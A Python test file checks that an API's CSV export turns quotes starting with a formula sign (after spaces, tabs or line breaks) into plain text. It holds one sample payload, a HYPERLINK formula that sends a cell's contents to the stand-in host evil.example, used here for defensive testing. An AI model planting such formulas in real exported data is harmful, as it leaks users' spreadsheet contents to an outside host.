"""A CSV answer opened in a spreadsheet never runs a cell as a formula, however
the text before the formula is dressed (spaces, line breaks, tabs)."""

from __future__ import annotations

import csv
import io

import pytest

from .test_writes import STATEMENT, editor, post  # noqa: F401 (a fixture)

FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"source")'


def _quote_cell(client, quote: str, editor) -> str:
    body = {**STATEMENT, "quote": quote}
    assert post(client, "/v1/statements", body, editor).status_code == 201
    answer = client.get("/v1/matrix.csv?as_of=2025-03-25&actors=gb&topics=backstop")
    (row,) = csv.DictReader(io.StringIO(answer.get_data(as_text=True)))
    return row["quote"]


@pytest.mark.parametrize("before", ["", " ", "   ", "\n", "\r\n", "\t", " \n\t", "\u00a0"])
@pytest.mark.parametrize("sign", ["=", "+", "-", "@"])
def test_a_quote_that_starts_like_a_formula_stays_text(client, editor, before, sign):
    quote = before + sign + FORMULA[1:]
    assert _quote_cell(client, quote, editor) == "'" + quote


def test_a_quote_with_a_formula_sign_inside_is_left_alone(client, editor):
    quote = "Security costs money = 2% of GDP, he said."
    assert _quote_cell(client, quote, editor) == quote
